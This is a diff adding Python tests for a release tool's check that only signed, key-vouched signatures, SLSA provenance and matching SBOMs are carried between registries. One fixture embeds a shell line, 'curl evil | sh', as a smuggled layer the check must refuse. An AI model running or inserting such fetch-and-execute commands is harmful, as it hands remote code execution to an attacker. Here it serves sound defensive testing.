@@ -25,9 +25,10 @@ from javabase.errors import ArchiveError, RegistryError, UsageError
 from javabase.manifest.model import Manifest
 from javabase.publish import referrers
 from javabase.publish.oci import INDEX_TYPE, MANIFEST_TYPE
-from javabase.release import carried, slsa, verify
+from javabase.release import carried, sbom, slsa, verify
 from javabase.release.archive import SavedArtifact, SavedEntry, read_entry
 from javabase.release.signing import (
+    DSSE_TYPE,
     IN_TOTO_TYPE,
     SIGNATURE_ARTIFACT,
     SIMPLE_SIGNING_TYPE,
@@ -341,3 +342,56 @@ def test_an_archive_index_with_an_artifact_that_is_not_what_it_says_is_refused_a
         read_entry({**entry.as_json(), "manifest": "not base64!"}, Path("release.tar"))
     older = {k: v for k, v in entry.as_json().items() if k not in ("manifest", "index", "attached")}
     assert read_entry(older, Path("release.tar")) == replace(entry, manifest=None, attached=())  # saved before
+
+
+def provenance_of(key: ec.EllipticCurvePrivateKey, subject: str) -> referrers.Artifact:
+    """A SLSA provenance of `subject`, in a DSSE envelope signed with `key`, as attest writes it."""
+    statement = json.dumps({"_type": slsa.STATEMENT_TYPE, "subject": [{"name": "r:5000/base/jre25", "digest": {
+        "sha256": subject.split(":")[1]}}], "predicateType": slsa.PREDICATE_TYPE, "predicate": {}}).encode()
+    envelope = load_signer(pem(key), None, "key").envelope(statement)
+    layer = referrers.Layer(DSSE_TYPE, envelope, {"predicateType": slsa.PREDICATE_TYPE})
+    return referrers.Artifact("att", DSSE_TYPE, (layer,), {slsa.PREDICATE_ANNOTATION: slsa.PREDICATE_TYPE})
+
+
+def sbom_of(image_id: str) -> referrers.Artifact:
+    return sbom.as_artifact(json.dumps({"spdxVersion": "SPDX-2.3", "name": "jre25", "documentNamespace":
+                                        f"https://javabase.invalid/spdx/jre25/{image_id}"}).encode())
+
+
+def test_only_what_the_key_vouches_for_goes_on_to_another_registry_and_in_javabases_own_form(
+        key: ec.EllipticCurvePrivateKey) -> None:
+    """An archive's artifacts are what anyone who can write the file made them:
+    a signature is carried only as its verified Simple Signing layers (a layer
+    or an annotation added beside them is not), a provenance only as envelopes
+    that open with the key for that manifest, an SBOM only when it is the
+    image's (its documentNamespace names the image ID)."""
+    public = key.public_key()
+    manifest, good = saved_signature(key, DIGEST)
+    signed = "sha256:" + hashlib.sha256(manifest).hexdigest()
+    [layer] = good.artifact.layers
+    assert carried.vouched(good.artifact, signed, DIGEST, public) == good.artifact
+    smuggled = referrers.Layer("application/octet-stream", b"#!/bin/sh\ncurl evil | sh\n")
+    assert carried.vouched(replace(good.artifact, layers=(layer, smuggled)), signed, DIGEST, public) is None
+    forged = referrers.Layer(layer.media_type, layer.data, {**layer.annotations, "dev.sigstore.cosign/bundle": "{}"})
+    assert carried.vouched(replace(good.artifact, layers=(forged,), annotations={"x": "y"}), signed, DIGEST,
+                           public) == good.artifact  # what the signature does not cover is not carried
+    assert carried.vouched(good.artifact, OTHER, DIGEST, public) is None
+    assert carried.vouched(replace(good.artifact, layers=()), signed, DIGEST, public) is None
+
+    att = provenance_of(key, signed)
+    assert carried.vouched(att, signed, DIGEST, public) == att
+    assert carried.vouched(provenance_of(key, OTHER), signed, DIGEST, public) is None  # another image's
+    [envelope] = att.layers
+    assert carried.vouched(replace(att, layers=(envelope, smuggled)), signed, DIGEST, public) is None
+    assert carried.vouched(replace(att, layers=(replace(envelope, media_type="application/json"),)), signed,
+                           DIGEST, public) is None
+    relabelled = replace(att, annotations={slsa.PREDICATE_ANNOTATION: "https://example.com/anything"},
+                         layers=(replace(envelope, annotations={"predicateType": "https://example.com/anything"}),))
+    assert carried.vouched(relabelled, signed, DIGEST, public) == att  # the statement says what it is
+
+    assert carried.vouched(sbom_of(DIGEST), signed, DIGEST, public) == sbom_of(DIGEST)
+    assert carried.vouched(sbom_of(OTHER), signed, DIGEST, public) is None  # another image's SBOM
+    [document] = sbom_of(DIGEST).layers
+    assert carried.vouched(replace(sbom_of(DIGEST), layers=(document, smuggled)), signed, DIGEST, public) is None
+    assert carried.vouched(replace(sbom_of(DIGEST), layers=(replace(document, data=b"[1, 2]"),)), signed, DIGEST,
+                           public) is None
